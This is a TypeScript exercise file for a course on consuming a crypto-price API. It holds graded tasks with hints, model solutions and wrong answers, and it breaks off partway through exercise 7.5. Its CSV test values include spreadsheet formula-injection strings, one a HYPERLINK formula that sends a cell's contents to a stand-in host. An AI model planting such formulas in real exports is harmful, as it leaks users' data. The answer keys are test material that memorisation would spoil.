import type { IncomingMessage } from 'node:http';
import axios from 'axios';
import { EventSourceParserStream } from 'eventsource-parser/stream';
import { Error as errorsOnly, logger, parse, View } from 'vega';
import { compile, type TopLevelSpec } from 'vega-lite';
import { z } from 'zod';
import { isRow, kindOf } from '../../src/course/compare.ts';
import { type Exercise, type Ground, listOf, Misfit } from '../../src/course/exercise.ts';
import { stationServer } from '../../src/course/station-server.ts';
import { isTodo } from '../../src/course/todo.ts';
import { exportTables } from '../../src/export/export.ts';
import { readLabel } from '../../src/export/label.ts';
import { inState } from '../../src/run/paths.ts';
import type { GoldServer } from '../../src/serve/server.ts';
import { dress, isSpec, type Spec } from '../../src/show/chart.ts';

type Close = { hour: string; close_price_usd: number };
type Row = { coin_id: string };
type Page = { version: number; rows: Row[]; next: number | null };
type Ask = (offset: number) => Promise<Page>;

const asRows = (outcome: unknown): Record<string, unknown>[] => (Array.isArray(outcome) ? outcome : []);

/** What a function gives, or that it throws. */
async function tried(work: () => unknown): Promise<unknown> {
  try {
    return await work();
  } catch (error) {
    return `an error: ${error instanceof Error ? error.message : String(error)}`;
  }
}

/** What an answer gives, and how many candles the server sent it for that: its calls, asked once more. */
async function sentFor(server: GoldServer, work: () => Promise<Close[]>): Promise<{ given: Close[]; sent: number }> {
  const calls: string[] = [];
  // The dashboard of step 5 asks the same server, and browsers say where a call comes from.
  const hear = ({ url = '', headers }: IncomingMessage) => headers['sec-fetch-site'] || calls.push(url);
  server.listener.on('request', hear);
  const given = await (async () => work())().finally(() => server.listener.off('request', hear));
  let sent = 0;
  for (const call of calls.filter(url => url.startsWith('/api/v1/ohlc'))) {
    const { data } = await axios.get<{ rows?: unknown[] }>(`${server.address}${call}`, { validateStatus: null });
    sent += data.rows?.length ?? 0;
  }
  return { given, sent };
}

/** Bodies for 7.2; what is wrong with one is its name. */
const price = (more: object = {}) => ({
  coin_id: 'bitcoin',
  price_usd: 68975.81,
  last_updated: '2026-03-08T23:58:02.541Z',
  ...more,
});
const without = (name: string) => Object.fromEntries(Object.entries(price()).filter(([key]) => key !== name));
const bodies: readonly { body: string; given: unknown }[] = [
  { body: 'as it should be', given: { version: 5, rows: [price(), price({ coin_id: 'tron', price_usd: 0.3 })] } },
  { body: 'a field more, as of a newer server', given: { version: 5, rows: [price({ symbol: 'btc' })], more: 1 } },
  { body: 'no rows', given: { version: 5, rows: [] } },
  { body: 'a price that is a text', given: { version: 5, rows: [price({ price_usd: '68975.81' })] } },
  { body: 'a price that is null', given: { version: 5, rows: [price({ price_usd: null })] } },
  { body: 'a price of 0', given: { version: 5, rows: [price({ price_usd: 0 })] } },
  { body: 'a price below 0', given: { version: 5, rows: [price(), price({ price_usd: -1 })] } },
  { body: 'without coin_id', given: { version: 5, rows: [without('coin_id')] } },
  { body: 'without last_updated', given: { version: 5, rows: [without('last_updated')] } },
  { body: 'a time that is none', given: { version: 5, rows: [price({ last_updated: 'yesterday' })] } },
  {
    body: 'a time without its zone',
    given: { version: 5, rows: [price({ last_updated: '2026-03-08T23:58:02.541' })] },
  },
  {
    body: 'a time in another form',
    given: { version: 5, rows: [price({ last_updated: 'Sun, 08 Mar 2026 23:58:02 GMT' })] },
  },
  { body: 'a refusal', given: { error: 'There is no coin "bitcon" here.' } },
  { body: 'a web page', given: '<!doctype html><title>Log in</title>' },
];

/** Lists for 7.3 out of a market's own rows: how many rows a page has, and after which calls something lands. */
async function lists({ lake }: Ground): Promise<{ list: string; ask: Ask }[]> {
  const found = await lake.rows<{ coin_id: string }>(
    `select coin_id || ' at ' || strftime(hour, '%H:%M') as coin_id from gold.crypto_hourly_ohlc
     where hour >= timestamptz '2026-03-08 00:00:00+00' order by close_price_usd desc limit 23`,
  );
  const rows = found.map(({ coin_id }) => ({ coin_id }));
  const list = (name: string, held: Row[], perPage: number, landings: number[]) => ({
    list: name,
    ask: pagesOf(held, perPage, landings),
  });
  return [
    list('of five pages', rows, 5, []),
    list('of one page', rows.slice(0, 4), 5, []),
    list('without rows', [], 5, []),
    list('of pages of one row', rows.slice(0, 6), 1, []),
    list('with a landing after page 2', rows, 5, [2]),
    list('with a landing before the last page', rows, 5, [4]),
    list('with two landings', rows, 10, [1, 4]),
  ];
}

const mostCalls = 100;

/** A server's pages: each landing makes a new version, whose first row is new. */
function pagesOf(rows: Row[], perPage: number, landings: number[]): Ask {
  let calls = 0;
  return async offset => {
    if (++calls > mostCalls) throw new Error(`the server was asked ${mostCalls} times and more`);
    const landed = landings.filter(after => calls > after).length;
    const fresh = Array.from({ length: landed }, (_, at) => ({ coin_id: `new ${landed - at}` }));
    const held = [...fresh, ...rows];
    const end = offset + perPage;
    return { version: 40 + landed, rows: held.slice(offset, end), next: end < held.length ? end : null };
  };
}

/** Answers for 7.4. */
const now = new Date('2026-03-09T00:00:00Z');
const answers: readonly { status: number; retryAfter: string | null }[] = [
  { status: 429, retryAfter: '30' },
  { status: 503, retryAfter: '1' },
  { status: 503, retryAfter: null },
  { status: 429, retryAfter: '0' },
  { status: 502, retryAfter: null },
  { status: 504, retryAfter: '2' },
  { status: 503, retryAfter: 'Mon, 09 Mar 2026 00:02:00 GMT' },
  { status: 429, retryAfter: 'Sun, 08 Mar 2026 23:59:00 GMT' },
  { status: 500, retryAfter: '3' },
  { status: 501, retryAfter: null },
  { status: 505, retryAfter: '1' },
  { status: 400, retryAfter: null },
  { status: 408, retryAfter: null },
  { status: 425, retryAfter: '1' },
  { status: 401, retryAfter: null },
  { status: 403, retryAfter: '5' },
  { status: 404, retryAfter: null },
  { status: 422, retryAfter: null },
];
type RetryIn = (status: number, retryAfter: string | null, now: Date) => unknown;

/** Streams for 7.5, of a market's own prices: what the server writes, and in how large parts it arrives. */
async function streams({ lake }: Ground): Promise<{ stream: string; body: ReadableStream<Uint8Array> }[]> {
  const rows = await lake.rows<{ coin_id: string; price_usd: number }>(
    `select coin_id, max_by(price_usd, last_updated) as price_usd from silver.crypto_prices
     where last_updated < timestamptz '2026-03-08 12:00:00+00' group by coin_id order by coin_id`,
  );
  const event = (version: number, tables: object) =>
    `event: gold\nid: ${version}\ndata: ${JSON.stringify({ version, at: now, changed: Object.keys(tables), rows: tables })}\n\n`;
  const text = [
    'retry: 2000\n\n',
    event(40, {}),
    event(41, { latest: rows.slice(0, 2), stats: [{ coin_id: 'tron' }] }),
    ': still here\n\n',
    event(42, { stats: [{ coin_id: 'tron' }] }),
    'event: note\ndata: the server restarts at noon\n\n',
    event(43, { latest: [...rows.slice(1), { coin_id: 'café-☕', price_usd: 2.5 }] }),
  ].join('');
  const bytes = Buffer.from(text);
  return [bytes.length, 100, 7, 1].map(size => ({
    stream: size === bytes.length ? 'in one part' : `in parts of ${size} bytes`,
    body: streamOf(bytes, size),
  }));
}

function streamOf(bytes: Buffer, size: number): ReadableStream<Uint8Array> {
  let at = 0;
  return new ReadableStream({
    pull(controller) {
      if (at >= bytes.length) return controller.close();
      controller.enqueue(new Uint8Array(bytes.subarray(at, at + size)));
      at += size;
    },
  });
}

/** As the notebook has it. */
const eventsIn = (body: ReadableStream<Uint8Array>) =>
  body.pipeThrough(new TextDecoderStream()).pipeThrough(new EventSourceParserStream());

/** Values for 7.6. */
const values: readonly (string | number | null)[] = [
  'bitcoin',
  'a, b',
  'say "hi"',
  'two\nlines',
  '=1+1',
  '=HYPERLINK("http://x.example?"&A1, "click")',
  '+1',
  '-1+1',
  '@SUM(A1)',
  '\t=1+1',
  '\r=1+1',
  'two\rlines',
  'a=b',
  '',
  null,
  0,
  68975.81,
  -1.5,
];

/** The fields of one record of CSV (RFC 4180). */
function fieldsOf(record: string): string[] {
  const fields = record.match(/(?<=^|,)(?:"(?:[^"]|"")*"|[^",\n]*)(?=,|$)/g) ?? [];
  const whole = fields.join(',') === record;
  return whole ? fields.map(field => (field.startsWith('"') ? field.slice(1, -1).replaceAll('""', '"') : field)) : [];
}

/** What a reader finds in the first field of a record that `cell` has written. */
function readBack(cell: (value: string | number | null) => unknown, value: string | number | null): string {
  const fields = fieldsOf([cell(value), 'end'].join(','));
  if (fields.length === 2 && fields[1] === 'end') return fields[0]!;
  return fields.length === 0 ? 'quotes that do not close' : `${fields.length} fields instead of 2`;
}

const folder = inState('exports', '07-serve');
const exported = 'silver.market_prices';

/** What lies in an export, read by its files; undefined before there is one. */
type Found = { format: string; partitioned_by: string; days: number; rows: number; volume_usd: number };
const found = (outcome: unknown) => outcome as Found;

const contents = `count(distinct partition_date) as days, count(*) as rows, sum(total_volume) as volume_usd`;

async function exportFound({ lake }: Ground): Promise<Found | undefined> {
  const place = `${folder}/${exported}`;
  const label = readLabel(place);
  if (!label) return undefined;
  const files = label.files.map(file => `${place}/${file}`);
  const read = label.format === 'csv' ? 'read_csv' : 'read_parquet';
  const [seen] = await lake.rows<Omit<Found, 'format' | 'partitioned_by'>>(
    `select ${contents} from ${read}([${files.map((_, at) => `$file${at}`)}], hive_partitioning = true)`,
    Object.fromEntries(files.map((file, at) => [`file${at}`, file])),
  );
  return { format: label.format, partitioned_by: label.partition_by.join(', ') || 'nothing', ...seen! };
}

/** Candles for 7.8, as `/ohlc` gives them, in an order that says nothing. */
type Candle = { hour: string; coin_id: string; symbol: string; open_price_usd: number; close_price_usd: number };

async function candleLists({ lake }: Ground): Promise<{ given: string; candles: Candle[] }[]> {
  const { address } = await stationServer(lake);
  const ask = async (coin: string, from: string) => {
    const params = { coin, from, to: '2026-03-09' };
    return (await axios.get<{ rows: Candle[] }>(`${address}/api/v1/ohlc`, { params })).data.rows;
  };
  const three = await Promise.all(['bitcoin', 'dogecoin', 'tron'].map(coin => ask(coin, '2026-03-07T12:00:00Z')));
  return [
    { given: 'three coins', candles: shuffled(three.flat()) },
    { given: 'one coin', candles: (await ask('ethereum', '2026-03-08')).toReversed() },
    { given: 'two coins, with gaps', candles: shuffled([...madeUp('solana', 140), ...madeUp('cardano', 0.7)]) },
  ];
}

/** Solana has no candles at 9 and 10, and those of cardano begin two hours later. */
function madeUp(coin: string, price: number): Candle[] {
  const closes =
    coin === 'solana' ? { 6: 1, 7: 1.01, 8: 0.99, 11: 1.04, 12: 1.02 } : { 8: 1, 9: 0.98, 10: 0.97, 12: 1 };
  return Object.entries(closes).map(([hour, factor]) => ({
    hour: `2026-03-08T${hour.padStart(2, '0')}:00:00.000Z`,
    coin_id: coin,
    symbol: coin === 'solana' ? 'sol' : 'ada',
    open_price_usd: price * (factor + 0.003),
    high_price_usd: price * 1.1,
    low_price_usd: price * 0.9,
    close_price_usd: price * factor,
    tick_count: 60,
  }));
}

/** The same order each time; 7919 is a prime. */
const shuffled = <T>(rows: T[]): T[] => rows.map((_, at) => rows[((at + 2) * 7919) % rows.length]!);

/** What the scenegraph and the compiled spec of vega hold, as far as it is read here. */
type Point = { x: number; y: number; stroke: string; defined?: boolean; datum: object };
type Drawn = { marktype?: string; name?: string; items?: (Point & Drawn)[] };
type Scaled = { scale?: string };
type Mark = { name?: string; type: string; marks?: Mark[]; encode?: { update?: Record<string, Scaled> } };
type Scale = { (value: unknown): unknown; type: string; domain(): unknown[]; invert?(at: number): number | Date };

const allOf = <T>(tree: T, below: (one: T) => T[] | undefined): T[] => [
  tree,
  ...(below(tree) ?? []).flatMap(one => allOf(one, below)),
];

/** The lines that a spec draws, each with its points as values of both axes: what is judged is the picture, not the spec. */
async function drawnBy(spec: unknown, candles: Candle[]) {
  const { view, marks } = await pictureOf(spec);
  const scaleOf = (mark: Drawn, channel: string): Scale | undefined => {
    const name = marks.find(one => one.name === mark.name)?.encode?.update?.[channel]?.scale;
    return name === undefined ? undefined : (view.scale(name) as Scale);
  };
  const names = new Map(candles.flatMap(({ coin_id, symbol }) => [coin_id, symbol].map(name => [name, coin_id])));
  const coinOf = ({ datum, stroke }: Point, colour?: Scale) => {
    const told = (colour?.domain() ?? []).filter(value => colour!(value) === stroke);
    return [...told, ...Object.values(datum)].map(name => names.get(String(name).toLowerCase())).find(Boolean);
  };
  const lines = new Map<string, ReturnType<typeof lineOf>>();
  const lineOf = (mark: Drawn) => {
    const [x, y] = [scaleOf(mark, 'x'), scaleOf(mark, 'y')];
    if (!x || !y) throw new Misfit('The lines have no `x` or no `y`. Name a field for both in `encoding`.', spec);
    const points = mark.items!.filter(({ defined }) => defined !== false);
    return {
      colour: points[0]?.stroke,
      forward_in_time: points.every(({ x }, at) => at === 0 || points[at - 1]!.x <= x),
      axis_of_hours: kindOfScale(x),
      axis_of_change: kindOfScale(y) + (Number(y(1)) > Number(y(0)) ? ', downwards' : ''),
      points: points.map(point => ({
        coin: coinOf(point, scaleOf(mark, 'stroke')),
        hour: instantOf(valueAt(x, point.x)),
        change_pct: Number(Number(valueAt(y, point.y)).toFixed(10)),
      })),
    };
  };
  const root = (view.scenegraph() as unknown as { root: Drawn }).root;
  for (const mark of allOf(root, one => one.items).filter(one => one.marktype === 'line')) {
    const line = lineOf(mark);
    if (line.points.length > 0) lines.set(JSON.stringify(line.points), line); // one above its like hides it
  }
  view.finalize();
  return [...lines.values()];
}

/** A spec as the notebook would draw it, without a screen. */
async function pictureOf(spec: unknown) {
  if (!isRow(spec) || !isSpec({ data: {}, ...spec })) {
    const found = isRow(spec) ? 'an object without a `mark`' : kindOf(spec);
    const cause = spec === undefined ? ' Is there a `return`?' : '';
    throw new Misfit(`The function should give a vega-lite spec; it gives ${found}.${cause}`, spec);
  }
  const dressed = dress(spec as Spec)['application/vnd.vegalite.v5+json'] as TopLevelSpec;
  const quiet = logger(errorsOnly);
  const compiled = compile(dressed, { logger: quiet }).spec;
  const view = new View(parse(compiled), { renderer: 'none', logger: quiet });
  await view.runAsync();
  const marks = allOf({ type: 'group', marks: compiled.marks } as Mark, one => one.marks);
  return { view, marks };
}

function kindOfScale({ type }: Scale): 'time' | 'numbers' | 'categories' {
  if (type === 'utc' || type === 'time') return 'time';
  return ['point', 'band', 'ordinal'].includes(type) ? 'categories' : 'numbers';
}

/** What stands at a place of an axis. */
function valueAt(scale: Scale, at: number): unknown {
  if (kindOfScale(scale) !== 'categories') return scale.invert!(at);
  return scale.domain().find(value => Math.abs(Number(scale(value)) - at) < 1e-6);
}

/** Pixels give a time back with an error far below a millisecond. */
const instantOf = (value: unknown): Date => new Date(typeof value === 'string' ? value : Math.round(Number(value)));

/** Are there more coins in one of the charts than lines? */
const linesBelowCoins = (rows: Record<string, unknown>[]): boolean => {
  const coins = Map.groupBy(rows, ({ given }) => given);
  return [...coins.values()].some(of => Number(of[0]!.lines) < new Set(of.map(({ coin }) => coin)).size);
};

/** Is the chart of one coin right, and in that of several a coin off by one factor in all its hours? */
function measuredFromAnother(outcome: unknown, wanted: unknown): boolean {
  const key = ({ given, coin, hour }: Record<string, unknown>) => `${given} ${coin} ${(hour as Date).getTime()}`;
  const drawn = new Map(asRows(outcome).map(row => [key(row), Number(row.change_pct)]));
  const lines = Map.groupBy(asRows(wanted), ({ given, coin }) => `${given}, ${coin}`);
  let off = 0;
  for (const [line, rows] of lines) {
    const of = rows.map(row => (100 + drawn.get(key(row))!) / (100 + Number(row.change_pct)));
    if (!of.every(factor => Math.abs(factor / of[0]! - 1) < 1e-3)) return false;
    if (Math.abs(of[0]! - 1) < 1e-6) continue;
    if (line.startsWith('one coin')) return false;
    off++;
  }
  return off > 0;
}

const byTime = `
  const sorted = candles.toSorted((a, b) => Date.parse(a.hour) - Date.parse(b.hour))
  const firstOf = (coin: string) => sorted.find(row => row.coin_id === coin)!.close_price_usd`;

/** A cell for 7.8: the right one but for what is said. */
const movesCell = (but: { first?: string; price?: string; change?: string; hour?: string; encoding?: object }) => {
  const { first = byTime, price = 'close_price_usd', hour = 'hour' } = but;
  const { change = `100 * (${price} / firstOf(coin_id) - 1)` } = but;
  const encoding = {
    x: { field: 'hour', type: 'temporal' },
    y: { field: 'change_pct', type: 'quantitative' },
    color: { field: 'coin_id', type: 'nominal' },
    ...but.encoding,
  };
  return `
const moves = (candles: Candle[]): object => {${first}
  const values = candles.map(({ coin_id, hour, ${price} }) =>
    ({ coin_id, hour: ${hour}, change_pct: ${change} }))
  const encoding = ${JSON.stringify(encoding)}
  return { data: { values }, mark: 'line', encoding }
}`;
};

export const exercises: readonly Exercise[] = [
  {
    id: '7.1',
    title: 'The closes of a day',
    level: 'beginner',
    form: 'function',
    answer: 'closes',
    scope: { axios },
    compare: { key: ['asked', 'hour'] },
    outcome: async (closes: (address: string, coin: string, day: string) => Promise<Close[]>, { lake }: Ground) => {
      const server = await stationServer(lake);
      const outcome: object[] = [];
      for (const [coin, day] of [
        ['bitcoin', '2026-03-08'],
        ['dogecoin', '2026-03-05'],
        ['tron', '2026-02-28'],
      ] as const) {
        const { given, sent } = await sentFor(server, () => closes(server.address, coin, day));
        if (isTodo(given)) return given;
        const kept = listOf(given, 'closes');
        const sent_and_not_kept = sent - kept.length;
        for (const { hour, close_price_usd, ...more } of kept)
          outcome.push({ asked: `${coin} ${day}`, hour, close_price_usd, ...more, sent_and_not_kept });
      }
      return outcome;
    },
    hints: [
      'Three things are asked of `/ohlc`: the coin, the first instant, and the instant before which it ends. The page at /docs names them.',
      'The end is exclusive, so it is the *next* day. `new Date(Date.parse(day) + 86_400_000).toISOString().slice(0, 10)` is that day as text.',
      '`axios.get<{ rows: Candle[] }>(address + "/api/v1/ohlc", { params: { coin, from: day, to } })`; then keep two columns of each of `data.rows`.',
    ],
    solution: {
      cell: `
const closes = async (address: string, coin: string, day: string): Promise<Close[]> => {
  const to = new Date(Date.parse(day) + 86_400_000).toISOString().slice(0, 10)
  const params = { coin, from: day, to }
  const { data } = await axios.get<{ rows: Candle[] }>(\`\${address}/api/v1/ohlc\`, { params })
  return data.rows.map(({ hour, close_price_usd }) => ({ hour, close_price_usd }))
}`,
      why: 'The server chooses the rows: by coin, from midnight to before the next midnight. What it leaves out need not travel.',
    },
    wrong: [
      {
        cell: `
const closes = async (address: string, coin: string, day: string): Promise<Close[]> => {
  const { data } = await axios.get<{ rows: Candle[] }>(\`\${address}/api/v1/ohlc\`,
    { params: { coin, from: day } })
  return data.rows.map(({ hour, close_price_usd }) => ({ hour, close_price_usd }))
}`,
        says: 'It begins at the right hour and does not end with the day. Say where it ends as well.',
      },
      {
        cell: `
const closes = async (address: string, coin: string, day: string): Promise<Close[]> => {
  const { data } = await axios.get<{ rows: Candle[] }>(\`\${address}/api/v1/ohlc\`,
    { params: { coin, from: day, to: \`\${day}T23:00:00Z\` } })
  return data.rows.map(({ hour, close_price_usd }) => ({ hour, close_price_usd }))
}`,
        says: 'The last hour of the day is missing: `to` is exclusive, so 23:00 does not belong to it. End with the next day.',
      },
      {
        cell: `
const closes = async (address: string, coin: string, day: string): Promise<Close[]> => {
  const to = new Date(Date.parse(day) + 86_400_000).toISOString().slice(0, 10)
  const { data } = await axios.get<{ rows: Candle[] }>(\`\${address}/api/v1/ohlc\`,
    { params: { from: day, to } })
  return data.rows.map(({ hour, close_price_usd }) => ({ hour, close_price_usd }))
}`,
        says: 'There is more than one price an hour: these are the candles of all coins. Ask for the one.',
        when: outcome => {
          const hours = new Set(asRows(outcome).map(({ asked, hour }) => `${asked} ${hour}`));
          return hours.size > 0 && asRows(outcome).length >= 2 * hours.size;
        },
      },
      {
        cell: `
const closes = async (address: string, coin: string, day: string): Promise<Close[]> => {
  const { data } = await axios.get<{ rows: Candle[] }>(\`\${address}/api/v1/ohlc\`, { params: { coin, limit: 1000 } })
  return data.rows.filter(({ hour }) => hour.startsWith(day)).map(({ hour, close_price_usd }) => ({ hour, close_price_usd }))
}`,
        says: 'The rows are right, and most of what came over the wire was thrown away: you choose here what the server could have chosen. Send it the bounds of the day.',
        when: (outcome, wanted) =>
          asRows(outcome).length === asRows(wanted).length &&
          asRows(outcome).some(row => Number(row.sent_and_not_kept) > 0),
      },
    ],
    right:
      'Bounds and coin went to the server, and only the rows asked for came back. Ask for a whole week in one call: 168 hours. How many rows come, and what does `next` say? Step 3 goes on there.',
  },
  {
    id: '7.2',
    title: 'Accept what keeps the contract',
    level: 'intermediate',
    form: 'function',
    answer: 'readPrices',
    scope: { z },
    compare: { key: ['body'] },
    outcome: async (readPrices: (body: unknown) => unknown[]) => {
      if (typeof readPrices !== 'function') throw new Error('A function is expected.');
      return Promise.all(
        bodies.map(async ({ body, given }) => {
          const rows = await tried(() => readPrices(structuredClone(given)));
          if (isTodo(rows)) return { body, verdict: rows };
          const refused = typeof rows === 'string' && rows.startsWith('an error');
          return { body, verdict: refused ? 'refused' : `accepted, ${listOf(rows, 'prices').length} rows` };
        }),
      );
    },
    hints: [
      'Write the contract as a schema: an object with `rows`, a list of objects with three fields. `parse` gives the value or throws.',
      '`z.number().positive()` is a number above 0, and no text; `z.iso.datetime()` a time such as 2026-03-08T23:58:02.541Z.',
      '`z.object({ rows: z.array(z.object({ coin_id: z.string(), price_usd: …, last_updated: … })) })`. `z.object` passes over further fields; `z.strictObject` would refuse them.',
    ],
    solution: {
      cell: `
const contract = z.object({
  rows: z.array(z.object({
    coin_id: z.string(),
    price_usd: z.number().positive(),
    last_updated: z.iso.datetime()
  }))
})
const readPrices = (body: unknown): Price[] => contract.parse(body).rows`,
      why: 'What is needed is named with its type and its bounds; what is not needed may come and go. A body that breaks the contract ends here, with its first fault named, and not in a chart.',
    },
    wrong: [
      {
        cell: `
const readPrices = (body: unknown): Price[] => (body as { rows: Price[] }).rows.map(row => row)`,
        says: 'A type is a claim that nobody checks while the program runs. A price that is a text, null or below 0 goes through.',
      },
      {
        cell: `
const contract = z.object({ rows: z.array(z.object({
  coin_id: z.string(), price_usd: z.number(), last_updated: z.iso.datetime() })) })
const readPrices = (body: unknown): Price[] => contract.parse(body).rows`,
        says: 'The types are right, and a price of 0, or below, is accepted. Say the bound as well.',
      },
      {
        cell: `
const contract = z.object({ rows: z.array(z.object({
  coin_id: z.string(), price_usd: z.coerce.number().positive(), last_updated: z.iso.datetime() })) })
const readPrices = (body: unknown): Price[] => contract.parse(body).rows`,
        says: '`coerce` makes a number of a text without a word. If prices turn into texts, you want to hear of it.',
      },
      {
        cell: `
const contract = z.strictObject({ version: z.int(), rows: z.array(z.strictObject({
  coin_id: z.string(), price_usd: z.number().positive(), last_updated: z.iso.datetime() })) })
const readPrices = (body: unknown): Price[] => contract.parse(body).rows`,
        says: 'A field more makes you refuse. A server may add fields without breaking anybody; pass over what you do not need.',
      },
      {
        cell: `
const row = z.object({ coin_id: z.string(), price_usd: z.number().positive(), last_updated: z.iso.datetime() })
const readPrices = (body: unknown): Price[] =>
  z.object({ rows: z.array(z.unknown()) }).parse(body).rows.flatMap(one => row.safeParse(one).data ?? [])`,
        says: 'You drop the rows that are wrong and say nothing. The chart has a coin less, and nobody knows why. Throw.',
      },
      {
        cell: `
const contract = z.object({ rows: z.array(z.object({ coin_id: z.string(), price_usd: z.number().positive(),
  last_updated: z.string().refine(text => !Number.isNaN(Date.parse(text))) })) })
const readPrices = (body: unknown): Price[] => contract.parse(body).rows`,
        says: 'JavaScript reads almost any text as a time: one without its zone is another instant on each machine. Ask for ISO text in UTC, which ends in Z.',
      },
    ],
    right:
      'Strict in what you need, indifferent to the rest. Let it throw once and read the message: `readPrices({ rows: [{ coin_id: "bitcoin", price_usd: "1", last_updated: "" }] })`.',
  },
  {
    id: '7.3',
    title: 'All pages, of one moment',
    level: 'advanced',
    form: 'function',
    answer: 'allRows',
    compare: { key: ['list'] },
    outcome: async (allRows: (ask: Ask) => Promise<Row[]>, ground: Ground) => {
      if (typeof allRows !== 'function') throw new Error('A function is expected.');
      const given = await lists(ground);
      return Promise.all(
        given.map(async ({ list, ask }) => {
          const rows = await tried(() => allRows(ask));
          if (isTodo(rows)) return { list, rows };
          return { list, rows: typeof rows === 'string' ? rows : asRows(rows).map(({ coin_id }) => coin_id) };
        }),
      );
    },
    hints: [
      'First without landings: ask for offset 0, then for each `next`, until that is null. Do not compute the offset yourself; the server says it.',
      'Keep the `version` of the first page. A page of another version belongs to another list: throw away what you have, and begin again at offset 0.',
      'A loop with three variables: `rows`, `offset` and `version`. On another version: `rows = []`, and go on with offset 0 and the version of that page. End when a page of the same version has `next === null`.',
    ],
    solution: {
      cell: `
const allRows = async (ask: Ask): Promise<Row[]> => {
  const first = await ask(0)
  const rows = [...first.rows]
  for (let next = first.next; next !== null;) {
    const page = await ask(next)
    if (page.version !== first.version) return allRows(ask)
    rows.push(...page.rows)
    next = page.next
  }
  return rows
}`,
      why: 'Rows of two versions are never put together: as soon as the version changes, all begins again.',
    },
    wrong: [
      {
        cell: `
const allRows = async (ask: Ask): Promise<Row[]> => {
  const rows: Row[] = []
  for (let next: number | null = 0; next !== null;) {
    const page: Page = await ask(next)
    rows.push(...page.rows)
    next = page.next
  }
  return rows
}`,
        says: 'While nothing lands it is right. When something lands between two pages, a row comes twice and another never: look at the version of each page.',
      },
      {
        cell: `
const allRows = async (ask: Ask): Promise<Row[]> => {
  const rows: Row[] = []
  for (let offset = 0; ; offset += 100) {
    const page = await ask(offset)
    rows.push(...page.rows)
    if (page.next === null) return rows
  }
}`,
        says: 'Only rows of the first page are there. Go on at its `next`, until that is null: how many rows a page has is for the server to say, and who counts offsets up by himself passes over rows.',
      },
      {
        cell: `
const allRows = async (ask: Ask): Promise<Row[]> => {
  const rows: Row[] = []
  let version: number | undefined
  for (let next: number | null = 0; next !== null;) {
    const page: Page = await ask(next)
    const changed = version !== undefined && page.version !== version
    version = page.version
    if (!changed) rows.push(...page.rows)
    next = changed ? 0 : page.next
  }
  return rows
}`,
        says: 'You begin again at the first page and keep the rows of the old version: they are there twice. Begin with an empty list.',
      },
      {
        cell: `
const allRows = async (ask: Ask): Promise<Row[]> => {
  const read = async () => {
    const pages: Page[] = []
    for (let next: number | null = 0; next !== null; next = pages.at(-1)!.next) pages.push(await ask(next))
    return pages
  }
  let pages = await read()
  if (pages.some(page => page.version !== pages[0]!.version)) pages = await read()
  return pages.flatMap(page => page.rows)
}`,
        says: 'You begin again once. Something may land while you read for the second time, too: compare the versions each time.',
      },
      {
        cell: `
const allRows = async (ask: Ask): Promise<Row[]> => {
  const rows = new Map<string, Row>()
  for (let next: number | null = 0; next !== null;) {
    const page: Page = await ask(next)
    for (const row of page.rows) rows.set(row.coin_id, row)
    next = page.next
  }
  return [...rows.values()]
}`,
        says: 'No row comes twice now, and one still never comes: what moved to a page that you have read already is lost. Removing twins hides the fault.',
      },
    ],
    right:
      'Of one moment, whole, and in order. On a list that changes faster than you read it would never end: then ask for larger pages, or by time (`from`, `to`), where what is past does not move.',
  },
  {
    id: '7.4',
    title: 'Ask again, or not?',
    level: 'intermediate',
    form: 'function',
    answer: 'retryIn',
    compare: { key: ['status', 'retry_after'] },
    outcome: (retryIn: RetryIn) =>
      answers.map(({ status, retryAfter }) => ({
        status,
        retry_after: retryAfter ?? 'none',
        wait_ms: retryIn(status, retryAfter, new Date(now)),
      })),
    hints: [
      'Decide by the status first: four of them are worth another try. For all others the answer is `null`, whatever the header says.',
      'Then the header: none at all is 1,000 ms. `Number(text)` makes a number of "30", and NaN of a date; `Number.isNaN` tells.',
      '`Date.parse(text) - now.getTime()` is the wait until a date. `Math.max(0, …)`: nobody can wait until yesterday.',
    ],
    solution: {
      cell: `
const retryIn = (status: number, retryAfter: string | null, now: Date): number | null => {
  if (![429, 502, 503, 504].includes(status)) return null
  if (retryAfter === null) return 1000
  const seconds = Number(retryAfter)
  if (!Number.isNaN(seconds)) return seconds * 1000
  return Math.max(0, Date.parse(retryAfter) - now.getTime())
}`,
      why: 'A refusal that says "your request is wrong" will be the same the next time. One that says "not now" names when.',
    },
    wrong: [
      {
        cell: `
const retryIn = (status: number, retryAfter: string | null, now: Date): number | null => {
  if (status < 400) return null
  if (retryAfter === null) return 1000
  const seconds = Number(retryAfter)
  if (!Number.isNaN(seconds)) return seconds * 1000
  return Math.max(0, Date.parse(retryAfter) - now.getTime())
}`,
        says: 'You ask again after every refusal. A 404 is the same tomorrow; asking again only costs. Of 4xx, 429 alone means "later".',
      },
      {
        cell: `
const retryIn = (status: number, retryAfter: string | null, now: Date): number | null => {
  if (status !== 429 && status < 500) return null
  if (retryAfter === null) return 1000
  const seconds = Number(retryAfter)
  if (!Number.isNaN(seconds)) return seconds * 1000
  return Math.max(0, Date.parse(retryAfter) - now.getTime())
}`,
        says: 'You ask again after every 5xx. A 500 is a fault in the server itself: the same question will most likely meet it again. Of 5xx, 502, 503 and 504 alone mean "later".',
      },
      {
        cell: `
const retryIn = (status: number, retryAfter: string | null, now: Date): number | null => {
  if (![429, 502, 503, 504].includes(status)) return null
  return Number(retryAfter ?? 1) * 1000
}`,
        says: 'Retry-After may also be a date. `Number` of a date is NaN, and a timer that is told NaN fires at once.',
      },
      {
        cell: `
const retryIn = (status: number, retryAfter: string | null, now: Date): number | null => {
  if (![429, 502, 503, 504].includes(status)) return null
  if (retryAfter === null) return 1000
  const seconds = Number(retryAfter)
  return Number.isNaN(seconds) ? Date.parse(retryAfter) - now.getTime() : seconds * 1000
}`,
        says: 'A date that is past gives a wait below 0. Nobody can wait until yesterday: 0 is the least.',
      },
      {
        cell: `
const retryIn = (status: number, retryAfter: string | null, now: Date): number | null => {
  if (![429, 502, 503, 504].includes(status)) return null
  if (retryAfter === null) return 1000
  const seconds = Number(retryAfter)
  if (!Number.isNaN(seconds)) return seconds
  return Math.max(0, Date.parse(retryAfter) - now.getTime())
}`,
        says: 'Retry-After counts in seconds, and milliseconds are asked. You come back a thousand times too early.',
      },
    ],
    right:
      'Four statuses, two forms of one header. What is still missing for a night without you: an end (after five tries, say), and waits that grow when no header says anything.',
  },
  {
    id: '7.5',
    title: 'Rows out of a stream',
    level: 'intermediate',
    form: 'function',
    answer: 'newPrices',
    scope: { eventsIn },
    compare: { key: ['stream', 'version', 'coin_id'] },
    outcome: async (
